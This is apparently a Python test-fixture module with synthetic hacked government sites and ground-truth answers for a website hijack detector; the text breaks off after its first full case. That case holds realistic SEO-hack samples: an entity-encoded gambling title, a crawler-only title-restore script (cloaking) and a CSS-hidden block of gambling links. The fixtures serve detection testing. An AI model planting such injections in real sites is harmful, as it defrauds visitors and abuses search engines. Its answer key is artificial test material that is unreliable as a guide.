"""Blind round hijack5: hacked government and institution sites as attackers leave
them in 2024-2026 (obfuscated), and clean sites that only look suspicious.

Written before any scan, from how such sites are built: TRS / Hanweb / Dede / Taiwanese
and WordPress / Drupal chrome, and the injections seen on hacked gov.cn, .gov.tw and
US .gov / .edu sites (entity-encoded titles, hiding classes, off-screen blocks,
escaped document.write, referrer and mobile-only redirects, 0x0 iframes, Japanese
keyword hack, pharma spam, parasite column pages, a replaced homepage).

Data only: each site is a ``BlindSite`` with its pages (path -> HTML), and its truth
at depth full and depth home. The scan that the truth assumes: NOW below, the farm
resolving every listed host to 127.0.0.1 and nothing else (system DNS off), link
checking not counted (the truth's ``passed`` is about hijack and freshness; the spam
hosts linked by hacked pages do not resolve).

Truth fields:
- ``status``: the site's status (hijacked, healthy, stale, ...).
- ``passed``: the site passes.
- ``must``: finding codes that must appear; ``must_any``: at least one of these must
  appear (a hijack a checker may name either way); ``must_not``: codes that must not.
- ``columns`` (full depth only): name -> (type, newest date or None, empty).
- ``newest``: the site's newest content date (``last_updated``) at that depth.
"""

from __future__ import annotations

import base64
import datetime as dt
from dataclasses import dataclass, field

NOW = dt.datetime(2026, 11, 20, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))
TODAY = NOW.date()

HIJACK_CODES = ("spam_content", "hidden_links", "offsite_redirect", "cloaking")


def ago(days: int) -> dt.date:
    return TODAY - dt.timedelta(days=days)


@dataclass(frozen=True)
class Truth:
    status: str
    passed: bool
    must: tuple[str, ...] = ()
    must_any: tuple[str, ...] = ()
    must_not: tuple[str, ...] = ()
    newest: dt.date | None = None


@dataclass
class Column:
    name: str
    type: str
    slug: str
    items: list[tuple[str, dt.date]]
    # the column's own list page; None: the generic list page is built
    page: str | None = None

    @property
    def newest(self) -> dt.date | None:
        return max((d for _, d in self.items), default=None)


@dataclass
class BlindSite:
    key: str
    host: str
    name: str
    lang: str
    hack: str  # what was done to it ("" for a clean site)
    pages: dict[str, str]
    full: Truth
    home: Truth
    columns: dict[str, tuple[str, dt.date | None, bool]] = field(default_factory=dict)
    scheme: str = "http"

    @property
    def url(self) -> str:
        return f"{self.scheme}://{self.host}/"


# ---------------------------------------------------------------------------
# shared chrome pieces

_CSS_GOV = """
*{margin:0;padding:0}body{font:12px/1.8 "Microsoft YaHei",SimSun,Arial;color:#333;background:#fff}
a{color:#333;text-decoration:none}a:hover{color:#c00}ul,li{list-style:none}img{border:0}
.w1200{width:1200px;margin:0 auto}.clearfix:after{content:"";display:block;clear:both}
.top-bar{height:36px;line-height:36px;background:#f5f5f5;border-bottom:1px solid #e5e5e5}
.top-bar .fl{float:left}.top-bar .fr{float:right}.top-bar a{margin:0 8px;color:#666}
.header{height:160px;background:url(/images/head_bg.jpg) no-repeat center top}
.header .logo{float:left;padding-top:40px}.header .search{float:right;padding-top:60px}
.search input.txt{width:240px;height:32px;border:1px solid #ccc;padding:0 8px}
.search input.btn{width:60px;height:34px;background:#b70000;color:#fff;border:0}
.nav{height:48px;background:#b70000}.nav>ul>li{float:left;position:relative;width:120px;text-align:center}
.nav>ul>li>a{display:block;line-height:48px;color:#fff;font-size:17px}
.nav .sub{display:none;position:absolute;top:48px;left:0;width:200px;background:#fff;z-index:99;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.nav li:hover .sub{display:block}.nav .sub a{display:block;line-height:34px;border-bottom:1px dashed #eee}
.banner{height:120px;margin:10px auto;background:#f1e9d2}
.box{border:1px solid #e1e1e1;margin-top:15px;padding:0 15px 10px}
.box .tit{height:42px;line-height:42px;border-bottom:2px solid #b70000}
.box .tit span{font-size:18px;font-weight:bold;color:#b70000}.box .tit a.more{float:right;color:#999}
.box ul li{height:34px;line-height:34px;background:url(/images/dot.gif) no-repeat left center;padding-left:12px;overflow:hidden}
.box ul li span{float:right;color:#999}.col-l{float:left;width:590px}.col-r{float:right;width:590px}
.tab-hd li{float:left;padding:0 18px;cursor:pointer}.tab-hd li.on{background:#b70000;color:#fff}
.tab-bd .panel{display:none}.tab-bd .panel.on{display:block}
.links{margin-top:15px;background:#f7f7f7;padding:10px}.links select{width:220px;margin-right:10px}
.footer{margin-top:20px;background:#8f0000;color:#fff;padding:20px 0;text-align:center;line-height:26px}
.footer a{color:#fff}.footer .icons{float:left;width:160px}
.float-ad{position:fixed;right:10px;top:200px;z-index:999}.float-ad .close{cursor:pointer}
.xxgk li{width:33%;float:left}.service-grid a{display:inline-block;width:110px;height:80px;margin:6px;text-align:center;background:#fafafa}
.slide{position:relative;height:320px;overflow:hidden}.slide li{position:absolute;left:0;top:0;display:none}.slide li.on{display:block}
.slide .txt{position:absolute;bottom:0;left:0;width:100%;height:36px;background:rgba(0,0,0,.5);color:#fff}
.sr-only{position:absolute;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);border:0}
@media screen and (max-width:768px){.w1200{width:100%}.nav{display:none}.col-l,.col-r{float:none;width:auto}}
"""

_JS_TAB = """
<script type="text/javascript">
function setTab(name,cursel,n){for(var i=1;i<=n;i++){var menu=document.getElementById(name+i);var con=document.getElementById("con_"+name+"_"+i);
if(!menu||!con){continue;}menu.className=i==cursel?"on":"";con.className=i==cursel?"panel on":"panel";}}
(function(){var idx=0,list=document.querySelectorAll('.slide li');if(!list.length){return;}
setInterval(function(){list[idx].className='';idx=(idx+1)%list.length;list[idx].className='on';},5000);})();
</script>
"""

_JS_ANALYTICS = """
<script>
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?5a7e1d8e3c2b9f0a4c6e8d1b2a3f4e5d";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(hm, s);
})();
</script>
"""

_GOV_LINKS = [
    ("中国政府网", "http://www.gov.cn/"),
    ("国务院部门网站", "http://www.gov.cn/guowuyuan/bumen.htm"),
    ("省人民政府", "http://www.zj.gov.cn/"),
    ("市人民政府", "http://www.hangzhou.gov.cn/"),
    ("省政务服务网", "https://www.zjzwfw.gov.cn/"),
    ("信用中国", "https://www.creditchina.gov.cn/"),
    ("国家政务服务平台", "http://gjzwfw.www.gov.cn/"),
]


def _dt(d: dt.date) -> str:
    return d.strftime("%Y-%m-%d")


def _art_href(slug: str, d: dt.date, n: int) -> str:
    return f"/{slug}/{d:%Y%m}/t{d:%Y%m%d}_{4300000 + n}.html"


def _article_page(site_name: str, col: str, title: str, d: dt.date, body: str = "") -> str:
    text = body or (
        f"<p>{title}。近日，{site_name}围绕年度重点工作目标，召开专题会议进行部署。会议指出，"
        "要坚持以人民为中心的发展思想，压实工作责任，细化任务清单，确保各项工作落到实处、取得实效。</p>"
        "<p>会议要求，各部门要加强统筹协调，强化督促检查，及时总结推广经验做法，推动工作再上新台阶。</p>"
    )
    return f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8">
<title>{title}_{col}_{site_name}</title>
<meta name="ArticleTitle" content="{title}">
<meta name="PubDate" content="{_dt(d)} 09:30">
<meta name="ColumnName" content="{col}">
<link rel="stylesheet" href="/css/article.css"></head>
<body><div class="w1200"><div class="crumb">当前位置：<a href="/">首页</a> &gt; <a href="../">{col}</a></div>
<div class="article"><h1>{title}</h1><div class="info">发布时间：{_dt(d)} 09:30　来源：{site_name}　浏览次数：<span id="hits">268</span></div>
<div class="content">{text}</div></div></div>
<div class="footer">版权所有：{site_name}</div></body></html>"""


def _zh_list_page(site_name: str, col: Column, extra_head: str = "", extra_body: str = "") -> str:
    rows = "\n".join(
        f'<li><a href="{_art_href(col.slug, d, i)}" target="_blank" title="{t}">{t}</a><span>{_dt(d)}</span></li>'
        for i, (t, d) in enumerate(col.items)
    )
    return f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{col.name}_{site_name}</title>
<meta name="ColumnName" content="{col.name}">{extra_head}
<style>{_CSS_GOV}</style></head>
<body><div class="top-bar"><div class="w1200"><span class="fl">欢迎访问{site_name}</span></div></div>
<div class="header w1200"><div class="logo"><a href="/"><img src="/images/logo.png" alt="{site_name}"></a></div></div>
<div class="nav"><ul class="w1200"><li><a href="/">首页</a></li></ul></div>
<div class="w1200 clearfix"><div class="crumb">当前位置：<a href="/">首页</a> &gt; {col.name}</div>
<div class="list-box"><div class="list-tit">{col.name}</div>
<ul class="list">
{rows}
</ul>
<div class="page">共{len(col.items)}条 第1页/共1页 <a href="#">首页</a> <a href="#">上一页</a> <a href="#">下一页</a> <a href="#">尾页</a></div>
</div></div>{extra_body}
<div class="footer">版权所有：{site_name}　网站标识码：3301000017</div></body></html>"""


def _articles(site_name: str, cols: list[Column]) -> dict[str, str]:
    pages: dict[str, str] = {}
    for col in cols:
        for i, (t, d) in enumerate(col.items):
            pages[_art_href(col.slug, d, i)] = _article_page(site_name, col.name, t, d)
    return pages


def _zh_mega_menu(sections: list[tuple[str, str, list[str]]]) -> str:
    out = []
    for name, slug, subs in sections:
        sub = "".join(f'<a href="/{slug}/{j}/">{s}</a>' for j, s in enumerate(subs))
        out.append(f'<li><a href="/{slug}/">{name}</a><div class="sub">{sub}</div></li>')
    return '<div class="nav"><ul class="w1200 clearfix"><li><a href="/">首页</a></li>' + "".join(out) + "</ul></div>"


_MENU_COUNTY = [
    ("走进清溪", "zjqx", ["清溪概况", "历史沿革", "行政区划", "人口民族", "自然资源", "旅游景点", "特色产业", "名人名胜", "清溪年鉴", "地方志"]),
    ("政务动态", "zwdt", ["清溪要闻", "部门动态", "乡镇动态", "图片新闻", "视频新闻", "媒体聚焦", "专题专栏", "公示公告"]),
    ("政府信息公开", "zfxxgk", ["信息公开指南", "信息公开制度", "法定主动公开内容", "政府信息公开年报", "依申请公开", "政策文件", "政策解读", "财政预决算", "重点领域信息公开", "人事信息", "规划计划", "统计信息", "建议提案办理", "政府常务会议"]),
    ("政务服务", "zwfw", ["个人办事", "法人办事", "部门服务", "乡镇服务", "便民服务", "办事指南", "表格下载", "好差评"]),
    ("互动交流", "hdjl", ["县长信箱", "部门信箱", "咨询投诉", "在线访谈", "征集调查", "常见问题", "留言选登"]),
    ("投资清溪", "tzqx", ["投资环境", "招商政策", "招商项目", "开发园区", "营商环境"]),
    ("专题专栏", "ztzl", ["优化营商环境", "乡村振兴", "安全生产", "生态环境保护", "扫黑除恶", "疫情防控", "双拥工作", "清廉清溪"]),
]


def _service_grid() -> str:
    return '<div class="w1200 box"><div class="tit"><span>政务服务</span><a class="more" href="/zwfw/">更多&gt;&gt;</a></div>' + _service_items() + "</div>"


def _service_items() -> str:
    items = ["社保查询", "公积金", "不动产登记", "户籍办理", "出入境", "医保服务", "交通违法", "税务办理",
             "教育服务", "就业创业", "婚姻登记", "残疾人服务", "民政救助", "企业开办", "工程建设", "水电气"]
    return '<div class="service-grid">' + "".join(
        f'<a href="/zwfw/bm/{i}/"><img src="/images/fw{i}.png" alt=""><br>{s}</a>' for i, s in enumerate(items)
    ) + "</div>"


def _friend_select(extra: list[tuple[str, str]] | None = None) -> str:
    links = _GOV_LINKS + (extra or [])
    opts = "".join(f'<option value="{u}">{n}</option>' for n, u in links)
    depts = ["县发改局", "县教育局", "县科技局", "县公安局", "县民政局", "县司法局", "县财政局", "县人社局",
             "县自然资源局", "县住建局", "县交通局", "县水利局", "县农业农村局", "县商务局", "县文广旅体局",
             "县卫健局", "县应急管理局", "县审计局", "县市场监管局", "县统计局", "县医保局"]
    dopts = "".join(f'<option value="/bm/{i}/">{n}</option>' for i, n in enumerate(depts))
    return (
        '<div class="links w1200"><b>相关链接：</b>'
        f'<select onchange="if(this.value)window.open(this.value)"><option>政府网站</option>{opts}</select>'
        f'<select onchange="if(this.value)window.open(this.value)"><option>部门网站</option>{dopts}</select>'
        '<select onchange="if(this.value)window.open(this.value)"><option>乡镇网站</option>'
        + "".join(f'<option value="/xz/{i}/">{n}镇</option>' for i, n in enumerate(["东溪", "西岭", "南山", "北坪", "石桥", "柳塘", "云峰", "桃源", "白沙", "青石"]))
        + "</select></div>"
    )


def _gov_footer(site_name: str, sitecode: str, icp: str, police: str) -> str:
    return f"""
<div class="footer"><div class="w1200 clearfix">
<div class="icons"><script type="text/javascript">document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/13/000/0000/60429971/CA130000000604299710002.js' type='text/javascript'%3E%3C/script%3E"));</script>
<a href="https://zfwzgl.www.gov.cn/exposure/jiucuo.html?site_code={sitecode}&amp;url=" target="_blank"><img src="/images/jiucuo.png" alt="政府网站找错"></a></div>
<p><a href="/wzdt/">网站地图</a> | <a href="/lxwm/">联系我们</a> | <a href="/sybz/">使用帮助</a> | <a href="/wzsm/">网站声明</a> | <a href="/wzgzndbb/">网站工作年度报表</a></p>
<p>主办单位：{site_name}办公室　承办：{site_name}大数据中心　联系电话：0571-88123456</p>
<p>网站标识码：{sitecode}　<a href="https://beian.miit.gov.cn/" target="_blank">{icp}</a>　<a href="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode={police}" target="_blank"><img src="/images/ga.png" alt="">浙公网安备 {police}号</a></p>
<p>Copyright &copy; 2008-2026 All Rights Reserved　建议使用1366*768分辨率、IE10以上版本浏览器</p>
</div></div>
<script id="_jiucuo_" sitecode="{sitecode}" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>
"""


def _box(col: Column, show: int = 8, year_less: bool = False) -> str:
    lis = []
    for i, (t, d) in enumerate(col.items[:show]):
        ds = d.strftime("%m-%d") if year_less else _dt(d)
        short = t if len(t) <= 26 else t[:25] + "…"
        lis.append(f'<li><span>{ds}</span><a href="{_art_href(col.slug, d, i)}" target="_blank" title="{t}">{short}</a></li>')
    return (f'<div class="box"><div class="tit"><span>{col.name}</span><a class="more" href="/{col.slug}/">更多&gt;&gt;</a></div>'
            f'<ul>{"".join(lis)}</ul></div>')


_PERSONAL = ["生育收养", "户籍办理", "民族宗教", "教育科研", "入伍服役", "就业创业", "设立变更", "准营准办", "抵押质押", "职业资格",
             "行政缴费", "婚姻登记", "优待抚恤", "规划建设", "住房保障", "社会保障", "证件办理", "交通出行", "旅游观光", "出境入境",
             "消费维权", "公共安全", "司法公证", "知识产权", "环保绿化", "文化体育", "公用事业", "医疗卫生", "离职退休", "死亡殡葬"]
_LEGAL = ["设立变更", "准营准办", "资质认证", "年检年审", "税收财务", "人力资源", "社会保障", "投资审批", "融资信贷", "抵押质押",
          "商务贸易", "招标拍卖", "海关口岸", "涉外服务", "农林牧渔", "国土和规划建设", "交通运输", "环保绿化", "应对气候变化", "水务气象",
          "医疗卫生", "科技创新", "文体教育", "知识产权", "民族宗教", "质量技术", "检验检疫", "安全生产", "公安消防", "司法公证"]
_ZT = ["学习贯彻党的二十届四中全会精神", "优化营商环境", "乡村振兴", "安全生产月", "生态文明建设", "清廉建设", "法治政府建设",
       "民生实事", "“最多跑一次”改革", "数字化改革", "共同富裕示范区建设", "文明城市创建", "扫黑除恶常态化", "防范化解重大风险",
       "国家安全教育", "双拥共建", "垃圾分类", "禁毒宣传", "政务公开", "适老化改造"]


def _zh_bulk(menu: list[tuple[str, str, list[str]]]) -> str:
    """The chrome every such portal carries below its columns: the service topics of
    个人办事 / 法人办事 (two tab panels), the 专题专栏 banner wall, a site map footer, the
    accessibility toolbar and an inline slider script."""
    per = "".join(f'<li><a href="/zwfw/gr/{i}/" target="_blank"><i class="ico ico{i}"></i>{t}</a></li>' for i, t in enumerate(_PERSONAL))
    leg = "".join(f'<li><a href="/zwfw/fr/{i}/" target="_blank"><i class="ico ico{i}"></i>{t}</a></li>' for i, t in enumerate(_LEGAL))
    zt = "".join(f'<li><a href="/ztzl/{i}/" target="_blank"><img src="/images/zt/zt{i:02d}.jpg" alt="{t}" title="{t}"><span>{t}</span></a></li>' for i, t in enumerate(_ZT))
    smap = "".join(
        f'<dl><dt><a href="/{slug}/">{name}</a></dt>' + "".join(f'<dd><a href="/{slug}/{j}/">{sub}</a></dd>' for j, sub in enumerate(subs)) + "</dl>"
        for name, slug, subs in menu
    )
    toolbar = (
        '<div id="toolbar" class="toolbar" style="display:none" role="toolbar" aria-label="无障碍工具条">'
        + "".join(f'<button type="button" class="tb-btn" data-act="{a}" title="{t}">{t}</button>' for a, t in [
            ("read", "声音"), ("speed", "语速"), ("mode", "阅读方式"), ("zoomin", "放大"), ("zoomout", "缩小"), ("color", "配色"),
            ("cursor", "光标"), ("guides", "辅助线"), ("bigtext", "大字幕"), ("pure", "纯文本"), ("reset", "重置"), ("help", "说明"), ("close", "退出")])
        + "</div>"
    )
    js = """<script type="text/javascript">
jQuery(function($){
  $(".tab-fw .hd li").on("mouseenter", function(){var i=$(this).index();$(this).addClass("on").siblings().removeClass("on");
    $(".tab-fw .bd .panel").eq(i).addClass("on").siblings().removeClass("on");});
  var $zt=$(".zt-wall ul"),w=$zt.find("li").outerWidth(true),n=$zt.find("li").length,pos=0,timer=null;
  function go(){pos=(pos+1)%Math.max(1,n-4);$zt.stop().animate({marginLeft:-pos*w},600);}
  function start(){timer=setInterval(go,4000);} function stop(){clearInterval(timer);}
  $(".zt-wall").hover(stop,start);start();
  $(".zt-wall .prev").click(function(){pos=(pos-2+n)%Math.max(1,n-4);go();});
  $(".zt-wall .next").click(go);
  $("#wza").click(function(){$("#toolbar").toggle();$("body").toggleClass("wza-on");});
  $("#lnb").click(function(){var f=parseInt($("body").css("font-size"),10)||12;$("body").css("font-size",(f>=16?12:f+2)+"px");});
  $(window).scroll(function(){if($(this).scrollTop()>400){$("#gotop").fadeIn();}else{$("#gotop").fadeOut();}});
  $("#gotop").click(function(){$("html,body").animate({scrollTop:0},300);});
  $(".nav>ul>li").hover(function(){$(this).addClass("hover").find(".sub").stop(true,true).slideDown(150);},
    function(){$(this).removeClass("hover").find(".sub").stop(true,true).slideUp(100);});
});
function SetHome(obj,url){try{obj.style.behavior="url(#default#homepage)";obj.setHomePage(url);}catch(e){
  if(window.netscape){try{netscape.security.PrivilegeManager.enablePrivilege("UniversalXPConnect");}catch(e){alert("此操作被浏览器拒绝！");}}
  else{alert("抱歉，您所使用的浏览器无法完成此操作。\\n\\n您需要手动将【"+url+"】设置为首页。");}}}
function AddFavorite(title,url){try{window.external.addFavorite(url,title);}catch(e){try{window.sidebar.addPanel(title,url,"");}
  catch(e){alert("抱歉，您所使用的浏览器无法完成此操作。\\n\\n加入收藏失败，请使用Ctrl+D进行添加");}}}
</script>"""
    return (
        '<div class="w1200 box tab-fw"><div class="tit"><span>办事服务</span><a class="more" href="/zwfw/">进入政务服务网&gt;&gt;</a></div>'
        '<ul class="hd clearfix"><li class="on">个人办事</li><li>法人办事</li></ul><div class="bd">'
        f'<div class="panel on"><ul class="clearfix">{per}</ul></div><div class="panel"><ul class="clearfix">{leg}</ul></div></div></div>'
        f'<div class="w1200 box zt-wall"><div class="tit"><span>专题专栏</span><a class="more" href="/ztzl/">更多&gt;&gt;</a></div>'
        f'<a class="prev" href="javascript:;">&lt;</a><div class="bd"><ul class="clearfix">{zt}</ul></div><a class="next" href="javascript:;">&gt;</a></div>'
        f'<div class="w1200 sitemap clearfix">{smap}</div>{toolbar}<a id="gotop" href="javascript:;" title="返回顶部">TOP</a>{js}'
    )


def _zh_portal(
    *,
    site_name: str,
    title: str,
    keywords: str,
    description: str,
    cols: list[Column],
    menu: list[tuple[str, str, list[str]]],
    sitecode: str,
    icp: str,
    police: str,
    head_extra: str = "",
    style_extra: str = "",
    top_extra: str = "",
    body_extra: str = "",
    footer_extra: str = "",
    leader_box: bool = True,
    gov: bool = True,
) -> str:
    slides = "".join(
        f'<li{" class=on" if i == 0 else ""}><a href="{_art_href(cols[0].slug, d, i)}"><img src="/images/slide{i}.jpg" alt="{t}"></a><div class="txt">{t}</div></li>'
        for i, (t, d) in enumerate(cols[0].items[:4])
    )
    pairs = []
    rest = cols[1:]
    for k in range(0, len(rest), 2):
        left = _box(rest[k])
        right = _box(rest[k + 1]) if k + 1 < len(rest) else ""
        pairs.append(f'<div class="w1200 clearfix"><div class="col-l">{left}</div><div class="col-r">{right}</div></div>')
    if not gov:
        xxgk = ""
    leaders = ""
    if leader_box:
        leaders = (
            '<div class="w1200 box"><div class="tit"><span>政府领导</span></div><ul class="xxgk clearfix">'
            + "".join(f'<li><a href="/zfld/{i}/">{n}</a></li>' for i, n in enumerate(["县长 王建国", "常务副县长 李明", "副县长 陈海峰", "副县长 赵丽", "副县长 孙伟", "副县长 周斌"]))
            + "</ul></div>"
        )
    xxgk = (
        '<div class="w1200 box"><div class="tit"><span>政府信息公开</span><a class="more" href="/zfxxgk/">更多&gt;&gt;</a></div><ul class="xxgk clearfix">'
        + "".join(f'<li><a href="/zfxxgk/{i}/">{n}</a></li>' for i, n in enumerate(_MENU_COUNTY[2][2]))
        + "</ul></div>"
    )
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<title>{title}</title>
<meta name="keywords" content="{keywords}">
<meta name="description" content="{description}">
<meta name="SiteName" content="{site_name}">
<meta name="SiteDomain" content="">
<meta name="SiteIDCode" content="{sitecode}">
<meta name="ColumnName" content="首页">
<meta name="ColumnType" content="首页">
{head_extra}
<link rel="stylesheet" type="text/css" href="/css/common.css">
<link rel="stylesheet" type="text/css" href="/css/index.css">
<script type="text/javascript" src="/js/jquery-1.12.4.min.js"></script>
<style type="text/css">{_CSS_GOV}{style_extra}</style>
</head>
<body>
{top_extra}
<div class="top-bar"><div class="w1200 clearfix"><div class="fl">今天是：<script>var d=new Date();var w=["日","一","二","三","四","五","六"];document.write(d.getFullYear()+"年"+(d.getMonth()+1)+"月"+d.getDate()+"日 星期"+w[d.getDay()]);</script></div>
<div class="fr"><a href="javascript:void(0)" id="wza">无障碍浏览</a><a href="javascript:void(0)" id="lnb">长者模式</a><a href="/m/">手机版</a><a href="/wxgzh/">微信公众号</a><a href="javascript:void(0)" onclick="SetHome(this,window.location)">设为首页</a><a href="javascript:void(0)" onclick="AddFavorite(document.title,window.location)">加入收藏</a><a href="/big5/">繁體</a></div></div></div>
<div class="header w1200 clearfix"><div class="logo"><a href="/"><img src="/images/logo.png" alt="{site_name}"></a></div>
<div class="search"><form action="/jsearchfront/search.do" method="get" target="_blank"><input type="hidden" name="websiteid" value="{sitecode}"><input class="txt" type="text" name="q" placeholder="请输入关键字"><input class="btn" type="submit" value="搜索"></form>
<p class="hot">热搜：<a href="/jsearchfront/search.do?q=社保">社保</a><a href="/jsearchfront/search.do?q=公积金">公积金</a><a href="/jsearchfront/search.do?q=招聘">招聘</a><a href="/jsearchfront/search.do?q=医保">医保</a></p></div></div>
{_zh_mega_menu(menu)}
<div class="w1200 clearfix" style="margin-top:12px"><div class="col-l"><div class="slide"><ul>{slides}</ul></div></div>
<div class="col-r">{_box(cols[0], 10)}</div></div>
<div class="banner w1200"><a href="/ztzl/0/"><img src="/images/banner_yshj.jpg" alt="优化营商环境"></a></div>
{"".join(pairs)}
{xxgk}
{leaders}
{_service_grid() if gov else ""}
<div class="w1200 box"><div class="tit"><span>互动交流</span></div><ul class="clearfix">
<li><a href="/hdjl/0/">县长信箱</a></li><li><a href="/hdjl/1/">部门信箱</a></li><li><a href="/hdjl/4/">征集调查</a></li><li><a href="/hdjl/5/">常见问题</a></li></ul></div>
{body_extra}
{_zh_bulk(menu)}
{_friend_select()}
{_gov_footer(site_name, sitecode, icp, police)}
{footer_extra}
{_JS_TAB}
{_JS_ANALYTICS}
</body>
</html>"""


# ---------------------------------------------------------------------------
# title pools (ordinary government content)

_NEWS_ZH = [
    "县委常委会召开会议传达学习省委全会精神", "我县召开2026年冬季安全生产工作部署会", "县领导带队开展重点项目建设督查",
    "全县秋冬季森林防火工作推进会召开", "我县举办首届农民丰收节农产品展销活动", "县政府召开第45次常务会议",
    "我县开展“119”消防宣传月系列活动", "县人大常委会视察民生实事项目推进情况", "全县招商引资工作推进会召开",
    "我县入选省级数字乡村建设试点县", "县领导走访慰问困难群众和老党员", "我县举行重大项目集中开工仪式",
    "全县冬春季农田水利基本建设现场会召开", "县政协召开专题协商会聚焦营商环境", "我县开展防范电信网络诈骗集中宣传",
]
_NOTICE_ZH = [
    "关于2026年度县级部门整体支出绩效评价结果的公示", "关于开展2026年冬季征兵工作的通告", "关于调整部分公交线路的公告",
    "关于2026年第四季度县长信箱办理情况的通报", "关于公布第二批县级非物质文化遗产代表性项目名录的通知",
    "关于城区部分路段临时交通管制的通告", "关于2026年度企业职工基本养老保险待遇调整的公告", "关于征集2027年县政府民生实事项目的公告",
    "关于清溪县国土空间总体规划批前公示", "关于2026年秋季学期义务教育阶段学生资助名单的公示",
]
_POLICY_ZH = [
    "清溪县人民政府关于印发清溪县促进民营经济高质量发展若干措施的通知", "清溪县人民政府办公室关于加强城市内涝治理的实施意见",
    "关于印发《清溪县公共租赁住房管理办法》的通知", "清溪县人民政府关于进一步做好稳就业工作的若干意见",
    "关于印发清溪县农村人居环境整治提升五年行动实施方案的通知", "清溪县人民政府办公室关于印发清溪县防汛防台应急预案的通知",
    "《清溪县促进民营经济高质量发展若干措施》政策解读", "清溪县人民政府关于公布行政规范性文件清理结果的决定",
]
_PERSONNEL_ZH = [
    "清溪县2026年公开招聘社区专职工作者公告", "县人民政府关于王某某等同志职务任免的通知", "2026年清溪县事业单位公开招聘工作人员拟聘用人员公示",
    "清溪县2026年公开招聘中小学教师面试公告", "关于拟任职干部任前公示的公告", "清溪县卫健系统2026年公开招聘医务人员公告",
]


def _mk(titles: list[str], days: list[int]) -> list[tuple[str, dt.date]]:
    return [(titles[i % len(titles)], ago(days[i])) for i in range(len(days))]


def _std_cols(news_titles: list[str], prefix: str = "") -> list[Column]:
    return [
        Column(f"{prefix}要闻", "news", "zwdt/qxyw", _mk(news_titles, [1, 2, 3, 5, 6, 8, 9, 12, 13, 15, 18, 20])),
        Column("通知公告", "notice", "zwdt/tzgg", _mk(_NOTICE_ZH, [2, 6, 11, 19, 25, 33, 40, 52, 61, 70])),
        Column("部门动态", "news", "zwdt/bmdt", _mk(news_titles[5:] + news_titles[:5], [1, 3, 4, 7, 10, 11, 14, 16, 21, 23])),
        Column("政策文件", "policy", "zfxxgk/zcwj", _mk(_POLICY_ZH, [9, 24, 38, 55, 71, 96, 120, 150])),
        Column("人事信息", "personnel", "zfxxgk/rsxx", _mk(_PERSONNEL_ZH, [16, 44, 70, 101, 133, 170])),
        Column("乡镇动态", "news", "zwdt/xzdt", _mk(news_titles[3:] + news_titles[:3], [2, 4, 5, 8, 12, 13, 17, 22, 26, 30])),
    ]


def _finish(site: BlindSite, cols: list[Column], list_extra: dict[str, tuple[str, str]] | None = None) -> BlindSite:
    """Adds the column list pages and article pages, and the columns' truth."""
    for col in cols:
        path = f"/{col.slug}/"
        if col.page is not None:
            site.pages[path] = col.page
        else:
            head, body = (list_extra or {}).get(col.slug, ("", ""))
            site.pages[path] = _zh_list_page(site.name, col, head, body)
        site.columns.setdefault(col.name, (col.type, col.newest, not col.items))
    for p, html in _articles(site.name, cols).items():
        site.pages.setdefault(p, html)
    return site


def _ent_hex(s: str) -> str:
    return "".join(f"&#x{ord(c):x};" if ord(c) > 127 else c for c in s)


def _ent_dec(s: str) -> str:
    return "".join(f"&#{ord(c)};" if ord(c) > 127 else c for c in s)


def _js_u(s: str) -> str:
    """A string as a hacker's obfuscator writes it: every character a \\uXXXX or \\xXX escape."""
    return "".join(f"\\u{ord(c):04x}" if ord(c) > 127 else f"\\x{ord(c):02x}" for c in s)


# ---------------------------------------------------------------------------
# H1: TRS county portal: title/keywords/description replaced by entity-encoded
# gambling words (with the classic spider-only title restore), and a spam link block
# hidden by a class whose CSS sits in the page's <style> block.

def _h1() -> BlindSite:
    name = "清溪县人民政府"
    cols = _std_cols(_NEWS_ZH)
    spam_title = "开云体育(中国)官方网站-IOS/安卓通用版/手机APP下载"
    spam_kw = "开云体育,开云体育官网,开云app下载,九游会j9,澳门新葡京,百家乐,PG电子麻将胡了"
    spam_desc = "开云体育(中国)官方网站是一家集真人视讯、体育赛事、电子游艺、彩票投注于一体的综合娱乐平台，注册即送彩金，24小时在线客服。"
    spam_links = [
        ("https://www.kaiyun-ty2025.com/", "开云体育官网"), ("https://www.j9-jiuyouhui.vip/", "九游会j9官网入口"),
        ("https://www.xpj-amxpj.cc/", "澳门新葡京娱乐场"), ("https://www.pgdz-mjhl.com/", "PG电子麻将胡了2试玩"),
        ("https://www.bjl-zhenren.net/", "真人百家乐平台"), ("https://www.hth-huatihui.com/", "华体会体育"),
        ("https://www.ayx-aiyouxi.com/", "爱游戏体育app下载"), ("https://www.yabo-ty88.com/", "亚博体育官网"),
        ("https://www.amlhc-kj.com/", "澳门六合彩开奖记录"), ("https://www.bet365-zh.vip/", "bet365体育在线投注"),
    ]
    hidden = '<div class="gg-fl8">' + "".join(f'<a href="{u}" target="_blank">{t}</a>' for u, t in spam_links) + "</div>"
    head_extra = (
        '<script>if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="清溪县人民政府"}</script>'
    )
    home = _zh_portal(
        site_name=name, title=_ent_hex(spam_title), keywords=_ent_dec(spam_kw), description=_ent_hex(spam_desc),
        cols=cols, menu=_MENU_COUNTY, sitecode="3311270001", icp="浙ICP备05022817号-1", police="33112702000101",
        head_extra=head_extra, style_extra=".gg-fl8{display:none;}", footer_extra=hidden,
    )
    site = BlindSite("qingxi", "www.qingxi.gov.cn", name, "zh", "entity title + class-hidden spam block",
                     {"/": home},
                     full=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(1)),
                     home=Truth("hijacked", False, must=("spam_content", "hidden_links"), newest=ago(1)))
    return _finish(site, cols)


# ---------------------------------------------------------------------------
# H2: Taiwanese district office (traditional, ROC dates): full-width title and an
